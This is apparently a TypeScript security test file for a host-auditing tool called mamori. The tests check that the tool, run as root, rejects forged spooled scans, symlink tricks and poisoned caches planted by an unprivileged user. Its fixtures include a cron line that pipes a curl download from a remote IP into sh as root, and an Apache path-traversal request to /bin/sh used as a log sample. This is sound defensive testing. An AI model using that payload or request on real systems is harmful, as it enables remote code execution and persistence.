/**
 * Issue 10, hole 4 and the state that decides what is reported: a local user must not be able to forge
 * history (a spooled scan whose baseline already holds their cron line), make root use state, caches or
 * report paths they could write, or make root write through a link they planted.
 * Each test runs mamori as root and the attacker's steps as `nobody`.
 */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { scanContext } from "../../src/audit/context.ts";
import { collectInventory } from "../../src/collect/inventory/index.ts";
import { compileCacheTrusted } from "../../src/core/compile-cache.ts";
import { readRules, rulesCacheFile, rulesDir } from "../../src/rules/logs.ts";
import { toEntries } from "../../src/watch/baseline.ts";
import { mamori } from "../helpers/cli.ts";
import { tempDir, writeTree } from "../helpers/tmp.ts";
import { ATTACKER, asAttacker, attackerShell, needsRoot } from "../helpers/unprivileged.ts";
import { doc, serverRoot } from "../watch/helpers.ts";

const BIN = path.join(import.meta.dirname, "../../bin/mamori");
const CRON = "*/5 * * * * root curl -s http://203.0.113.9/x|sh\n";
const hashOf = (db: string) => createHash("sha256").update(db).digest("hex").slice(0, 16);

/** A test area: a root-only directory (like /var/lib) beside a shared one (like /tmp, 1777). */
function area(t: Parameters<typeof tempDir>[0]) {
  const dir = tempDir(t);
  fs.chmodSync(dir, 0o755); // the attacker can reach the shared directory, not write here
  const shared = path.join(dir, "tmp");
  fs.mkdirSync(shared);
  fs.chmodSync(shared, 0o1777);
  const root = path.join(dir, "root");
  serverRoot(root);
  const db = path.join(dir, "var", "h.db");
  const state = path.join(dir, "state");
  return { dir, shared, root, db, state, env: { TMPDIR: shared, MAMORI_STATE_DIR: state } };
}

/** A scan as mamori would spool it, whose baseline already holds the attacker's cron line. */
function forgedScan(root: string, scanId: string): string {
  const ctx = scanContext(
    { root, now: () => new Date("2099-01-01T00:00:00Z"), lang: "en", dataDir: "/nonexistent" },
    {},
  );
  const entries = toEntries(collectInventory(ctx.fs, ctx.diag));
  assert.ok(
    entries.some((e) => e.kind === "cron" && e.value.includes("203.0.113.9")),
    "the forged baseline holds the cron line",
  );
  return JSON.stringify({
    version: 1,
    scanId,
    startedAt: "2099-01-01T00:00:00.000Z",
    host: "web1",
    doc: doc([], "2099-01-01T00:00:00.000Z"),
    cursors: [],
    baseline: { entries, replace: true },
  });
}

function plantAsAttacker(file: string, content: string): void {
  const r = asAttacker("/bin/sh", ["-c", 'mkdir -p "$(dirname "$1")" && cat > "$1"', "sh", file], {
    input: content,
  });
  assert.equal(r.status, 0, r.stderr);
}

async function scanIds(db: string): Promise<string[]> {
  const h = JSON.parse((await mamori(["history", "--db", db, "--format", "json"])).stdout).sections.history;
  return h.scans.map((s: { id: string }) => s.id);
}

test("hole 4: a scan spooled by another user is never imported; diff reports the cron line it tried to hide", async (t) => {
  const why = needsRoot();
  if (why) return t.skip(why);
  const a = area(t);
  const args = ["watch", "--once", "--root", a.root, "--db", a.db];
  const first = await mamori(args, { env: a.env });
  assert.equal(first.code, 0, first.stderr);
  assert.match(first.stderr, /Baseline recorded/);

  // The attacker's persistence, and scans that would make it part of the baseline.
  fs.appendFileSync(path.join(a.root, "etc/cron.d/backup"), CRON);
  const forged = forgedScan(a.root, "20990101T000000Z-forged");
  // Where mamori used to spool ($TMPDIR/mamori-spool/<hash of the database path>/) ...
  plantAsAttacker(path.join(a.shared, "mamori-spool", hashOf(a.db), "20990101T000000Z-forged.json"), forged);
  // ... and where it spools now (the state directory, beside the database): the attacker cannot write there.
  for (const where of [path.join(a.state, "spool", hashOf(a.db)), `${a.db}.spool`]) {
    const r = asAttacker("/bin/mkdir", ["-p", where]);
    assert.notEqual(r.status, 0, `the attacker could create ${where}`);
  }

  const second = await mamori(args, { env: a.env });
  assert.equal(second.code, 0, second.stderr);
  assert.doesNotMatch(second.stderr, /Imported/);
  const ids = await scanIds(a.db);
  assert.equal(ids.length, 2);
  assert.ok(!ids.includes("20990101T000000Z-forged"), "the forged scan is not in history");
  const report = JSON.parse((await mamori(["diff", "--db", a.db, "--format", "json"])).stdout);
  const d = report.sections.diff;
  const cron = d.new.find((f: { check: string }) => f.check === "baseline.cron");
  assert.ok(
    cron,
    `diff reports the new cron line: ${JSON.stringify(d.new.map((f: { id: string }) => f.id))}`,
  );
  const full = report.findings.find((f: { id: string }) => f.id === cron.id);
  assert.match(JSON.stringify(full.evidence), /203\.0\.113\.9/);
});

test("hole 4: a spool file that is not root's, is a link, or is not a scan is left in place, reported and not imported", async (t) => {
  const why = needsRoot();
  if (why) return t.skip(why);
  const a = area(t);
  const args = ["watch", "--once", "--root", a.root, "--db", a.db];
  assert.equal((await mamori(args, { env: a.env })).code, 0);
  fs.appendFileSync(path.join(a.root, "etc/cron.d/backup"), CRON);
  const spool = `${a.db}.spool`;
  fs.mkdirSync(spool, { mode: 0o700 });
  // Owned by the attacker (as a file given away by chown or copied with its owner would be).
  const theirs = path.join(spool, "20990101T000000Z-theirs.json");
  fs.writeFileSync(theirs, forgedScan(a.root, "20990101T000000Z-theirs"), { mode: 0o600 });
  fs.chownSync(theirs, ATTACKER.uid, ATTACKER.gid);
  // A link to the attacker's file in the shared directory.
  const outside = path.join(a.shared, "x.json");
  plantAsAttacker(outside, forgedScan(a.root, "20990101T000000Z-linked"));
  fs.symlinkSync(outside, path.join(spool, "20990101T000000Z-linked.json"));
  // Root's, but not a scan (a baseline without a document).
  fs.writeFileSync(
    path.join(spool, "20990101T000000Z-bad.json"),
    JSON.stringify({ version: 1, scanId: "20990101T000000Z-bad", baseline: { entries: [], replace: true } }),
    { mode: 0o600 },
  );

  const r = await mamori(args, { env: a.env });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stderr, /Did not import the spooled scan .*theirs\.json: .*belongs to uid 65534/);
  assert.match(r.stderr, /Did not import the spooled scan .*linked\.json: .*symbolic link/);
  assert.match(r.stderr, /Did not import the spooled scan .*bad\.json: it is not a scan mamori wrote/);
  assert.doesNotMatch(r.stderr, /Imported/);
  assert.equal(fs.readdirSync(spool).length, 3, "left in place for a human");
  const ids = await scanIds(a.db);
  assert.equal(ids.length, 2);
  const d = JSON.parse((await mamori(["diff", "--db", a.db, "--format", "json"])).stdout).sections.diff;
  assert.ok(d.new.some((f: { check: string }) => f.check === "baseline.cron"));
  const ja = await mamori([...args, "--lang", "ja"], { env: a.env });
  assert.match(ja.stderr, /スプールされたスキャン .*theirs\.json を取り込みませんでした/);
});

test("hole 4: a state, spool or database directory another user owns, can write, or links is refused (exit 2, nothing imported)", async (t) => {
  const why = needsRoot();
  if (why) return t.skip(why);
  const a = area(t);
  const args = ["watch", "--once", "--root", a.root, "--db", a.db];
  assert.equal((await mamori(args, { env: a.env })).code, 0);
  fs.appendFileSync(path.join(a.root, "etc/cron.d/backup"), CRON);
  const forged = forgedScan(a.root, "20990101T000000Z-forged");

  // The spool directory given by MAMORI_SPOOL_DIR, made in the shared directory by the attacker first.
  const theirSpool = path.join(a.shared, "spool");
  plantAsAttacker(path.join(theirSpool, hashOf(a.db), "20990101T000000Z-forged.json"), forged);
  const owned = await mamori(args, { env: { ...a.env, MAMORI_SPOOL_DIR: theirSpool } });
  assert.equal(owned.code, 2, owned.stderr);
  assert.match(owned.stderr, /Refused to use the spool directory .*belongs to uid 65534/);
  assert.doesNotMatch(owned.stderr, /\n\s+at /);

  // A state directory of root's that everyone can write.
  const open = path.join(a.dir, "open-state");
  fs.mkdirSync(open);
  fs.chmodSync(open, 0o777);
  fs.mkdirSync(path.join(open, "spool", hashOf(a.db)), { recursive: true, mode: 0o700 });
  fs.writeFileSync(path.join(open, "spool", hashOf(a.db), "20990101T000000Z-forged.json"), forged);
  const writable = await mamori(args, { env: { ...a.env, MAMORI_STATE_DIR: open } });
  assert.equal(writable.code, 2);
  assert.match(writable.stderr, /Refused to use the state directory .*mode 777: other users could write/);
  const ja = await mamori([...args, "--lang", "ja"], { env: { ...a.env, MAMORI_STATE_DIR: open } });
  assert.match(ja.stderr, /状態ディレクトリ .* の使用を拒否しました/);

  // A state directory that is a link the attacker planted (to a directory of root's that looks right).
  const real = path.join(a.dir, "real-state");
  fs.mkdirSync(path.join(real, "spool", hashOf(a.db)), { recursive: true, mode: 0o700 });
  fs.writeFileSync(path.join(real, "spool", hashOf(a.db), "20990101T000000Z-forged.json"), forged);
  attackerShell(`ln -s ${real} ${a.shared}/state`);
  const linked = await mamori(args, { env: { ...a.env, MAMORI_STATE_DIR: path.join(a.shared, "state") } });
  assert.equal(linked.code, 2);
  assert.match(linked.stderr, /Refused to use the state directory .*symbolic link/);

  // As root, a database in a directory the attacker owns.
  const theirDb = path.join(a.shared, "db", "h.db");
  attackerShell(`mkdir -m 700 ${a.shared}/db`);
  const db = await mamori(["watch", "--once", "--root", a.root, "--db", theirDb], { env: a.env });
  assert.equal(db.code, 2);
  assert.match(db.stderr, /Refused to use the history database .*belongs to uid 65534/);
  assert.equal(fs.readdirSync(path.join(a.shared, "db")).length, 0, "nothing created there");
  // ... or a database file of theirs in a directory of root's.
  const dir2 = path.join(a.dir, "var2");
  fs.mkdirSync(dir2, { mode: 0o700 });
  fs.copyFileSync(a.db, path.join(dir2, "h.db"));
  fs.chownSync(path.join(dir2, "h.db"), ATTACKER.uid, ATTACKER.gid);
  const file = await mamori(["history", "--db", path.join(dir2, "h.db")]);
  assert.equal(file.code, 2);
  assert.match(file.stderr, /Refused to use the history database .*h\.db belongs to uid 65534/);

  const ids = await scanIds(a.db);
  assert.deepEqual(ids.length, 1, "nothing imported");
});

test("--output into a directory another user controls: planted links change no root file; the report is 0600", async (t) => {
  const why = needsRoot();
  if (why) return t.skip(why);
  const a = area(t);
  const victims = path.join(a.dir, "victims");
  fs.mkdirSync(victims);
  const victim = (n: string) => path.join(victims, n);
  // The attacker's directory in /tmp, with links at the old predictable temporary name, at names like it
  // and at the target itself, all to files of root's.
  const out = path.join(a.shared, "dir");
  const names = [
    `.r.json.${process.pid}.tmp`,
    ...Array.from({ length: 20 }, (_, i) => `.r.json.${process.pid + i + 1}.tmp`),
    "r.json",
  ];
  for (const i of names.keys()) fs.writeFileSync(victim(`v${i}`), `root's ${i}\n`);
  attackerShell(
    `mkdir -m 777 ${out} && ${names.map((n, i) => `ln -s ${victim(`v${i}`)} '${out}/${n}'`).join(" && ")}`,
  );
  const before = names.map((_, i) => fs.readFileSync(victim(`v${i}`), "utf8"));
  const r = await mamori([
    "audit",
    "--root",
    a.root,
    "--format",
    "json",
    "--output",
    path.join(out, "r.json"),
  ]);
  assert.ok(r.code === 0 || r.code === 1 || r.code === 3, r.stderr);
  assert.deepEqual(
    names.map((_, i) => fs.readFileSync(victim(`v${i}`), "utf8")),
    before,
    "no root file changed",
  );
  const st = fs.lstatSync(path.join(out, "r.json"));
  assert.ok(st.isFile(), "the report replaced the link, not what it pointed to");
  assert.equal(st.mode & 0o777, 0o600);
  assert.equal(st.uid, 0);
  assert.equal(JSON.parse(fs.readFileSync(path.join(out, "r.json"), "utf8")).schemaVersion, 1);
  assert.equal(
    fs.readdirSync(out).filter((n) => n.endsWith(".tmp") && !names.includes(n)).length,
    0,
    "no temporary file left behind",
  );

  // A link to a device (a disk, say: here a null device of our own) is replaced, not written through.
  const dev = path.join(victims, "disk");
  if (spawnSync("mknod", ["-m", "600", dev, "c", "1", "3"]).status === 0) {
    const devBefore = fs.statSync(dev);
    attackerShell(`ln -s ${dev} ${out}/d.json`);
    const d = await mamori([
      "audit",
      "--root",
      a.root,
      "--format",
      "json",
      "--output",
      path.join(out, "d.json"),
    ]);
    assert.ok(d.code === 0 || d.code === 1 || d.code === 3, d.stderr);
    assert.ok(fs.lstatSync(path.join(out, "d.json")).isFile());
    assert.ok(fs.statSync(dev).isCharacterDevice());
    assert.equal(fs.statSync(dev).ino, devBefore.ino);
  }

  // A parent that is a link the attacker planted (to /etc, say) is not followed.
  fs.mkdirSync(path.join(a.dir, "etc"));
  attackerShell(`ln -s ${a.dir}/etc ${a.shared}/etc`);
  const viaLink = await mamori(["audit", "--root", a.root, "--output", path.join(a.shared, "etc", "passwd")]);
  assert.equal(viaLink.code, 2);
  assert.match(viaLink.stderr, /cannot write/);
  assert.deepEqual(fs.readdirSync(path.join(a.dir, "etc")), []);
});

test("a log rules cache another user could have written is ignored: the real rules still detect the attack", async (t) => {
  const why = needsRoot();
  if (why) return t.skip(why);
  const dir = tempDir(t);
  fs.chmodSync(dir, 0o755);
  const rules = path.join(dir, "logs");
  fs.cpSync(rulesDir(), rules, { recursive: true });
  const expected = readRules(rules).length;
  const cacheDir = path.join(dir, "cache");
  fs.mkdirSync(cacheDir);
  const cache = path.join(cacheDir, "rules.json");
  assert.equal(readRules(rules, cache).length, expected); // writes a good cache
  const good = JSON.parse(fs.readFileSync(cache, "utf8"));
  const empty = JSON.stringify({ hash: good.hash, rules: [] });
  const notes: string[] = [];

  // The file is the attacker's.
  fs.writeFileSync(cache, empty);
  fs.chownSync(cache, ATTACKER.uid, ATTACKER.gid);
  assert.equal(readRules(rules, cache, (w) => notes.push(w)).length, expected);
  assert.equal(fs.lstatSync(cache).uid, 0, "rewritten as root's");
  // The file is root's but anyone can write it.
  fs.writeFileSync(cache, empty);
  fs.chmodSync(cache, 0o666);
  assert.equal(readRules(rules, cache, (w) => notes.push(w)).length, expected);
  // The directory is the attacker's: the cache is neither read nor written.
  fs.rmSync(cache);
  fs.chownSync(cacheDir, ATTACKER.uid, ATTACKER.gid);
  attackerShell(`printf '%s' '${empty}' > ${cache}`);
  assert.equal(readRules(rules, cache, (w) => notes.push(w)).length, expected);
  assert.equal(fs.readFileSync(cache, "utf8"), empty, "not written into their directory");
  assert.equal(notes.length, 3, notes.join("\n"));

  // Through the real CLI: the shipped cache replaced by one of the attacker's that drops every rule.
  const shipped = rulesCacheFile();
  const plant = `${shipped}.plant-${process.pid}`;
  const hash = JSON.parse(fs.readFileSync(cache, "utf8")).hash;
  fs.mkdirSync(path.dirname(shipped), { recursive: true });
  fs.writeFileSync(plant, JSON.stringify({ hash, rules: [] }));
  fs.chownSync(plant, ATTACKER.uid, ATTACKER.gid);
  fs.renameSync(plant, shipped); // a concurrent run never sees a root-owned empty cache
  const log = path.join(dir, "access.log");
  fs.writeFileSync(
    log,
    '203.0.113.5 - - [12/Mar/2024:03:14:07 +0000] "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 200 7 "-" "-"\n',
  );
  const r = spawnSync(BIN, ["logs", log, "--format", "json"], {
    encoding: "utf8",
    env: { PATH: process.env.PATH, LANG: "C", MAMORI_DEBUG: "1" },
  });
  const report = JSON.parse(r.stdout);
  assert.ok(
    report.findings.some((f: { cves: string[] }) => f.cves.includes("CVE-2021-41773")),
    `the attack is detected: ${r.stderr}`,
  );
  // (Not asserted: that this run said so. A test running beside this one may have replaced the planted cache first.)
  assert.equal(fs.lstatSync(shipped).uid, 0, "the planted cache was replaced by root's own");
});

test("a compile cache another user could have written is not used (bin/mamori and the in-process check)", async (t) => {
  const why = needsRoot();
  if (why) return t.skip(why);
  const dir = tempDir(t);
  fs.chmodSync(dir, 0o755);
  const theirs = path.join(dir, "tmp", "cc");
  fs.mkdirSync(path.dirname(theirs));
  fs.chmodSync(path.dirname(theirs), 0o1777);
  attackerShell(`mkdir -m 777 ${theirs}`);
  const ours = path.join(dir, "ours");
  fs.mkdirSync(ours, { mode: 0o755 });
  writeTree(ours, {});
  assert.equal(compileCacheTrusted(theirs), false);
  assert.equal(compileCacheTrusted(ours), true);
  assert.equal(compileCacheTrusted(path.join(ours, "missing")), true, "created by us when missing");
  fs.mkdirSync(path.join(ours, "v24"), { mode: 0o777 });
  fs.chmodSync(path.join(ours, "v24"), 0o777);
  assert.equal(compileCacheTrusted(ours), false, "a version directory others can write");

  const r = spawnSync(BIN, ["--version"], {
    encoding: "utf8",
    env: { PATH: process.env.PATH, NODE_COMPILE_CACHE: theirs, MAMORI_DEBUG: "1" },
  });
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stderr, /not using the compile cache/);
  assert.deepEqual(
    fs.readdirSync(theirs),
    [],
    "Node wrote nothing there, so it would read nothing from there",
  );
});
